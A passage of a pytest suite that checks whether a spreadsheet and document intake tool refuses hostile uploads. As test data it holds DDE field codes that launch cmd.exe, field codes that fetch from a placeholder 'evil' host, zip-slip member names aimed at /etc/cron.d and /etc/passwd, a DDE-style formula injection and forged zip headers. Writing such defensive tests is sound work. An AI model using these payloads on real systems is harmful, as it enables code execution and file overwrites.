    assert outcome.error or fine(outcome), f"{name} came in without a word"


FIELDS = (
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    'DDE cmd "/k calc"',
    'INCLUDETEXT "http://evil/x.docx"',
    'INCLUDEPICTURE "http://evil/x.png" \\d',
    'LINK Excel.Sheet "\\\\\\\\evil\\\\x.xlsx"',
    'IMPORT "http://evil/x"',
    "dde\u00a0cmd",
    'RD "http://evil/x.docx"',
    'DATABASE \\d "http://evil/x"',
)


@row("xml_injection_dde")
@pytest.mark.parametrize("code", FIELDS)
def test_a_field_of_a_template_that_runs_or_fetches_is_refused_or_told(code: str) -> None:
    from xml.sax.saxutils import escape, quoteattr

    complex_field = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{escape(code)}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    split_field = complex_field.replace(
        escape(code), escape(code[:2]) + "</w:instrText></w:r><w:r><w:instrText>" + escape(code[2:])
    )
    simple_field = f"<w:p><w:fldSimple w:instr={quoteattr(code)}/></w:p>"
    for body in (complex_field, split_field, simple_field):
        outcome = run(steps.issues_of, samples.docx("{{ name }}", body=body), "docx")
        if outcome.error:
            refused(outcome)
        else:
            assert fine(outcome), f"{code} came in without a word"


# ---------------------------------------------------------------------------------------------------------------------
# What is no package

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


def utf16(text: str) -> bytes:
    return text.encode("utf-16-le")


@row("ole_encrypted")
@pytest.mark.parametrize(
    ("data", "codes", "says"),
    [
        (OLE + utf16("EncryptedPackage") + b"\0" * 512, ("GF303",), "加密"),
        (OLE + utf16("EncryptionInfo") + b"\0" * 512, ("GF303",), "加密"),
        (OLE + utf16("Workbook") + b"\0" * 512, ("GF304",), ".xls"),
        (OLE + utf16("Book\0") + b"\0" * 512, ("GF304",), ".xls"),
        (OLE + utf16("WordDocument") + b"\0" * 512, ("GF304",), ".doc"),
        (OLE, ("GF304",), "旧版"),
        (b"", ("GF301", "GF103"), "空"),
        (b"<html><table><tr><td>x</td></tr></table></html>", ("GF302",), "网页"),
        (b"\xef\xbb\xbf<!DOCTYPE html><html>", ("GF302",), "网页"),
        (b"MIME-Version: 1.0\r\nContent-Type: multipart/related", ("GF302",), "网页"),
        (b"<?xml version='1.0'?><Workbook xmlns='urn:schemas-microsoft-com:office:spreadsheet'/>", ("GF302",), "XML"),
        (b"%PDF-1.7\n", ("GF302",), "PDF"),
        (b"{\\rtf1 x}", ("GF302",), "RTF"),
        ("企业名称,所在地\n".encode(), ("GF302",), "CSV"),
        ("企业名称,所在地\n".encode("gbk"), ("GF302",), "CSV"),
        (OLE + utf16("ETExtData") + utf16("Workbook"), ("GF304",), ".et"),
        (OLE + utf16("WordDocument"), ("GF304",), ".wps"),
        (OLE + utf16("PowerPoint Document"), ("GF304",), ".ppt"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF", ("GF302",), "原文件"),
        (b"\x89PNG\r\n\x1a\n\0\0", ("GF302",), "图片"),
        (samples.zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}), ("GF318",), "OpenDocument"),
        (samples.zipped({"OFD.xml": "<x/>"}), ("GF318",), "OFD"),
        (samples.zipped({"Index/Document.iwa": "x"}), ("GF318",), "Numbers"),
        (samples.zipped({"附件3.xlsx": samples.table(GOOD)}), ("GF318",), "解压"),
        (b"Rar!\x1a\x07\x00", ("GF302",), "RAR"),
        (b"7z\xbc\xaf\x27\x1c", ("GF302",), "7z"),
        (b"\x1f\x8b\x08", ("GF302",), "gzip"),
        (b"PK\x03\x04" + b"\0" * 100, ("GF305",), "不完整"),
        (samples.table(GOOD)[:-30], ("GF305",), ""),
        (samples.table(GOOD)[: len(samples.table(GOOD)) // 2], ("GF305",), ""),
        (b"\0" * 5000, ("GF302",), ""),
        (b"PK\x05\x06" + b"\0" * 18, ("GF318",), ""),
        (samples.zipped({"x.txt": "x"}), ("GF318",), ""),
        (samples.zipped({"[Content_Types].xml": "<x/>"}), (), ""),
        (samples.docx("x"), (), ""),
    ],
)  # fmt: skip
def test_what_is_no_workbook_is_told_in_words(data: bytes, codes: tuple[str, ...], says: str) -> None:
    refused_everywhere(data, *codes, says=says)


# ---------------------------------------------------------------------------------------------------------------------
# Lies in the zip


def renamed(name: str) -> bytes:
    return samples.zipped({**samples.unzipped(samples.table(GOOD)), name: b"<x/>"})


@row("zip_slip")
@pytest.mark.parametrize(
    "name",
    ["../evil.xml", "../../../../etc/cron.d/evil", "xl/../../evil.xml", "/etc/passwd", "C:\\evil.xml", "C:evil.xml", "..\\evil.xml", "xl\\evil.xml", "\\\\evil\\x", "xl/./evil.xml",
     "xl//../evil.xml", "..", ".", "xl/..", "a\nb.xml", "evil\x01.xml", "//evil/x", "xl/%2e%2e/%2e%2e/evil.xml", "~/evil", "xl/con:x", "xl/evil.xml\x00.png"],
)  # fmt: skip
def test_a_member_that_leads_out_of_the_package_is_refused(name: str) -> None:
    outcome = open_template(renamed(name))
    if name in ("~/evil", "xl/%2e%2e/%2e%2e/evil.xml"):
        within(outcome)  # odd, but a name like any other: nothing is ever unpacked by it
        return
    refused_everywhere(renamed(name), "GF311", "GF305")


@row("zip_slip")
def test_a_link_as_a_member_is_refused_or_only_bytes() -> None:
    data = renamed("xl/link.xml")
    data = samples.poke_entry(data, "xl/link.xml", 38, "<L", 0o120777 << 16)
    data = samples.poke_entry(data, "xl/link.xml", 4, "<H", 3 << 8 | 20)
    within(load(data))
    assert not load(data).foreign


@row("duplicate_zip_entries")
@pytest.mark.parametrize(
    "second",
    [
        "xl/worksheets/sheet1.xml",
        "XL/worksheets/Sheet1.XML",
        "xl/workbook.xml",
        "[Content_Types].xml",
        "[content_types].xml",
        "xl/worksheets/ſheet1.xml",
    ],
)
def test_two_members_of_one_name_are_refused(second: str) -> None:
    first = samples.unzipped(samples.table(GOOD))
    data = samples.zipped([*first.items(), (second, first.get(second, b"<x/>"))])
    refused_everywhere(data, "GF310", says="同名")


def lie(field: str) -> bytes:
    good = samples.table(GOOD)
    sheet = "xl/worksheets/sheet1.xml"
    at = good.find(b"PK\x03\x04", good.find(b"xl/_rels/workbook.xml.rels") + 26)
    end = good.rfind(b"PK\x05\x06")
    match field:
        case "crc":
            return samples.poke_entry(good, sheet, 16, "<L", 0)
        case "size":
            return samples.poke_entry(good, sheet, 24, "<L", 1)
        case "size 4 GB":
            return samples.poke_entry(good, sheet, 24, "<L", 0xFFFFFFFE)
        case "compressed":
            return samples.poke_entry(good, sheet, 20, "<L", 5)
        case "compressed 4 GB":
            return samples.poke_entry(good, sheet, 20, "<L", 0xFFFFFFFF)
        case "method":
            return samples.poke_entry(good, sheet, 10, "<H", 12)
        case "method stored":
            return samples.poke_entry(good, sheet, 10, "<H", 0)
        case "encrypted":
            return samples.poke_entry(good, sheet, 8, "<H", 1)
        case "strong encryption":
            return samples.poke_entry(good, sheet, 8, "<H", 0x41)
        case "masked":
            return samples.poke_entry(good, sheet, 8, "<H", 0x2000)
        case "offset":
            return samples.poke_entry(good, sheet, 42, "<L", 0)
        case "offset outside":
            return samples.poke_entry(good, sheet, 42, "<L", 1 << 30)
        case "offset minus one":
            return samples.poke_entry(good, sheet, 42, "<L", 0xFFFFFFFF)
        case "local name":
            return samples.poke(good, at + 30, "<B", ord("y"))
        case "local name length":
            return samples.poke(good, at + 26, "<H", 60000)
        case "count too small":
            return samples.poke(good, end + 8, "<2H", 2, 2)
        case "count too large":
            return samples.poke(good, end + 8, "<2H", 60000, 60000)
        case "count zero":
            return samples.poke(good, end + 8, "<2H", 0, 0)
        case "directory size":
            return samples.poke(good, end + 12, "<L", 1 << 30)
        case "directory start":
            return samples.poke(good, end + 16, "<L", 1 << 30)
        case "zip64 without its record":
            return samples.poke(good, end + 8, "<2HLL", 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
        case "zip64 that points outside":
            return (
                good[:end]
                + struct.pack("<4sLQL", b"PK\x06\x07", 0, 1 << 60, 1)
                + samples.poke(good[end:], 8, "<2HLL", 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
            )
        case "zip64 of 2**63 members":
            record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 1 << 63, 1 << 63, 1 << 62, 0)
            return (
                good[:end]
                + record
                + struct.pack("<4sLQL", b"PK\x06\x07", 0, end, 1)
                + samples.poke(good[end:], 8, "<2HLL", 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
            )
        case "several volumes":
            return samples.poke(good, end + 4, "<2H", 1, 1)
        case "second directory behind the first":
            return good + samples.table([["另一家", "示范区", ""]])
        case "comment with a directory in it":
            other = good[end:]
            return samples.poke(good, end + 20, "<H", len(other)) + other
    raise AssertionError(field)


LIES = ("crc", "size", "size 4 GB", "compressed", "compressed 4 GB", "method", "method stored", "encrypted", "strong encryption", "masked", "offset", "offset outside", "offset minus one", "local name", "local name length",
        "count too small", "count too large", "count zero", "directory size", "directory start", "zip64 without its record", "zip64 that points outside", "zip64 of 2**63 members", "several volumes")  # fmt: skip


@row("mutated_1000")
@pytest.mark.parametrize("field", LIES)
def test_a_zip_whose_records_lie_is_refused(field: str) -> None:
    refused_everywhere(lie(field))


@pytest.mark.parametrize("field", ["second directory behind the first", "comment with a directory in it"])
def test_a_zip_that_two_readers_read_differently_is_refused_or_read_as_excel_does(field: str) -> None:
    """Readers take the last directory of the file; data behind or before it is refused or means nothing."""
    outcome = within(load(lie(field)))
    assert not outcome.foreign
    if not outcome.error:
        import io

        import openpyxl

        wanted = openpyxl.load_workbook(io.BytesIO(lie(field))).active["A2"].value
        assert [company["name"] for company in outcome.value["companies"]] == [wanted]


def test_bytes_after_the_end_and_before_the_start() -> None:
    for data in (
        samples.table(GOOD) + b"\0" * 1000,
        b"MZ" + b"\0" * 1000 + samples.table(GOOD),
        samples.table(GOOD) + b"#!/bin/sh\nid\n",
    ):
        outcome = within(load(data))
        assert not outcome.foreign
        if not outcome.error:
            assert len(outcome.value["companies"]) == 1


def test_content_types_that_do_not_fit_are_refused_or_harmless() -> None:
    good = samples.table(GOOD)
    for old, new in (
        ("spreadsheetml.sheet.main+xml", "wordprocessingml.document.main+xml"), ("spreadsheetml.worksheet+xml", "wordprocessingml.header+xml"),
        ("/xl/workbook.xml", "/xl/nothere.xml"), ("application/xml", "text/html"), ('PartName="/xl/styles.xml"', 'PartName="/../styles.xml"'), ("<Override", "<Override PartName='/xl/workbook.xml' ContentType='x'/><Override"),
    ):  # fmt: skip
        data = samples.edit_part(good, "[Content_Types].xml", old, new)
        for door in (load, open_template, read):
            outcome = within(door(data))
            assert not outcome.foreign, str(outcome)
        within(open_template(data, "docx"))


RELATIONS = (
    "",
    "/",
    "..",
    "../../../etc/passwd",
    "/etc/passwd",
    "#x",
    "workbook.xml",
    "worksheets/../workbook.xml",
    "%2e%2e/x",
    "worksheets/sheet1.xml#" + "x" * 100_000,
    "/" * 100_000,
    "../" * 100_000,
    "\\xl\\worksheets\\sheet1.xml",
    "NULL",
    "worksheets",
)


@pytest.mark.parametrize("target", RELATIONS, ids=[text[:30] or "empty" for text in RELATIONS])
def test_a_relation_to_anywhere_opens_nothing_outside(target: str) -> None:
    data = samples.edit_part(samples.table(GOOD), "xl/_rels/workbook.xml.rels", "worksheets/sheet1.xml", target)
    for door in (load, open_template, read):
        outcome = within(door(data))
        assert not outcome.foreign, str(outcome)
        assert "root:" not in str(outcome.value)


def test_a_relation_that_goes_round_in_circles_ends() -> None:
    data = samples.edit_part(samples.table(GOOD), "_rels/.rels", "xl/workbook.xml", "_rels/.rels")
    for door in (load, open_template, read):
        refused(door(data))


# ---------------------------------------------------------------------------------------------------------------------
# What a return says


def form_with(cells: dict[str, Any], **more: Any) -> bytes:
    return samples.xlsx({"A1": "示范区", "A2": "企业名称", "B2": "统一社会信用代码", "C2": "能耗", **cells}, **more)


RETURNED_FORMULAS = ("1+1", "SUM(A1:A9)", 'HYPERLINK("http://evil","x")', "cmd|'/c calc'!A0", "'[1]x'!A1", "1e999")


@row("forged_cached_value")
@pytest.mark.parametrize("formula", RETURNED_FORMULAS)
def test_a_formula_in_a_data_cell_is_refused_with_its_cell_whatever_it_says_it_is(formula: str) -> None:
    refused(load(samples.table([["甲有限公司", "示范区", (formula, 999999)]])), says="C2")
    outcome = within(read(form_with({"A3": "甲", "B3": "1", "C3": (formula, 999999)})))
    if outcome.error:
        refused(outcome, says="C3")
    else:
        energy = outcome.value.entries["companies"].items[0].entries["energy"]
        assert energy.kind == "formula" and "999999" not in energy.text


@row("forged_cached_value")
@pytest.mark.parametrize("formula", RETURNED_FORMULAS[:3])
def test_a_formula_in_a_returned_form_does_not_become_a_figure(formula: str) -> None:
    found = fine(run(steps.collect_tampered, "annual-table", (formula, 999999)), seconds=2)
    assert "999999" not in str(found["companies"])
    assert any("公式" in text for text in found["issues"]), found["issues"][:5]


@row("forged_cached_value")
def test_no_cached_value_gets_into_the_data() -> None:
    for formula in (("1+1", 999999), ("", 999999), ('"甲"', "乙")):
        for outcome in (
            read(form_with({"A3": "甲", "C3": formula})),
            load(samples.table([["甲有限公司", "示范区", formula]])),
        ):
            within(outcome)
            assert "999999" not in str(outcome.value) and "乙" not in str(outcome.value)


SHEETS = {
    "shared formula": '<row r="3"><c r="A3"><f t="shared" si="0"/><v>9</v></c></row>',
    "array formula": '<row r="3"><c r="A3"><f t="array" ref="A3:XFD1048576">1</f><v>9</v></c></row>',
    "data table": '<row r="3"><c r="A3"><f t="dataTable" ref="A3:B9" r1="A1"/><v>9</v></c></row>',
    "error": '<row r="3"><c r="A3" t="e"><v>#REF!</v></c></row>',
    "string out of range": '<row r="3"><c r="A3" t="s"><v>99999999</v></c></row>',
    "negative string": '<row r="3"><c r="A3" t="s"><v>-1</v></c></row>',
    "string not a number": '<row r="3"><c r="A3" t="s"><v>x</v></c></row>',
    "string in other digits": '<row r="3"><c r="A3" t="s"><v>٣</v></c></row>',
    "number not a number": '<row r="3"><c r="A3"><v>1e</v></c></row>',
    "infinite": '<row r="3"><c r="A3"><v>1e999999</v></c></row>',
    "not a number": '<row r="3"><c r="A3"><v>NaN</v></c></row>',
    "many digits": f'<row r="3"><c r="A3"><v>{"9" * 100_000}</v></c></row>',
    "small exponent": '<row r="3"><c r="A3"><v>1e-999999999</v></c></row>',
    "bool": '<row r="3"><c r="A3" t="b"><v>7</v></c></row>',
    "date out of range": '<row r="3"><c r="A3" s="1"><v>99999999999</v></c></row>',
    "style out of range": '<row r="3"><c r="A3" s="99999999999"><v>1</v></c></row>',
    "style not a number": '<row r="3"><c r="A3" s="x"><v>1</v></c></row>',
    "unknown type": '<row r="3"><c r="A3" t="zzz"><v>1</v></c></row>',
    "iso date": '<row r="3"><c r="A3" t="d"><v>2023-99-99</v></c></row>',
    "two values": '<row r="3"><c r="A3"><v>1</v><v>2</v></c></row>',
    "same cell twice": '<row r="3"><c r="A3"><v>1</v></c><c r="A3"><v>2</v></c></row>',
    "same row twice": '<row r="3"><c r="A3"><v>1</v></c></row><row r="3"><c r="A3"><v>2</v></c></row>',
    "rows backwards": '<row r="9"><c r="A9"><v>1</v></c></row><row r="3"><c r="A3"><v>2</v></c></row>',
    "cell of another row": '<row r="3"><c r="A9"><v>1</v></c></row>',
    "negative row": '<row r="-3"><c r="A-3"><v>1</v></c></row>',
    "row not a number": '<row r="x"><c><v>1</v></c></row>',
    "control escapes": '<row r="3"><c r="A3" t="inlineStr"><is><t>_x0000__x0007__xD800__xFFFE_</t></is></c></row>',
    "bidi": '<row r="3"><c r="A3" t="inlineStr"><is><t>甲&#x202E;乙</t></is></c></row>',
    "long text": f'<row r="3"><c r="A3" t="inlineStr"><is><t>{"甲" * 2_000_000}</t></is></c></row>',
}


@row("mutated_1000")
@pytest.mark.parametrize("rows", SHEETS.values(), ids=SHEETS)
def test_an_odd_cell_is_read_or_refused_by_every_door(rows: str) -> None:
    head = f'<row r="1">{samples.cell("A1", "企业名称")}{samples.cell("B1", "所在地")}</row><row r="2">{samples.cell("A2", "企业名称")}</row>'
    data = samples.xlsx(
        sheet=f'<worksheet xmlns="{samples.S}"><sheetData>{head}{rows}</sheetData></worksheet>',
        strings=f'<sst xmlns="{samples.S}"><si><t>x</t></si></sst>',
    )
    for door in (load, open_template, read):
        outcome = within(door(data))
        assert not outcome.foreign, str(outcome)
        if outcome.error:
            refused(outcome)


@pytest.mark.parametrize("escaped", ["_x0000_", "_x0007_", "_xD800_", "_xDC00_", "_xFFFE_", "_x202E_", "_x0001_"])
def test_a_character_smuggled_in_by_excels_escape_is_refused(escaped: str) -> None:
    refused(load(samples.table([[f"甲{escaped}乙", "示范区", ""]])), "GF107")
    char = chr(int(escaped[2:6], 16))
    found = fine(run(steps.collect_tampered, "annual-table", f"甲{escaped}乙"), seconds=2)
    assert not any(char in str(value) for company in found["companies"] for value in company.values())
    assert any(f"U+{ord(char):04X}" in text for text in found["issues"]), found["issues"][:5]


def test_hidden_sheets_and_rows_of_a_return_are_told() -> None:
    data = samples.edit_part(samples.table(GOOD), "xl/worksheets/sheet1.xml", '<row r="2">', '<row r="2" hidden="1">')
    assert "GF128" in fine(load(data))["codes"]
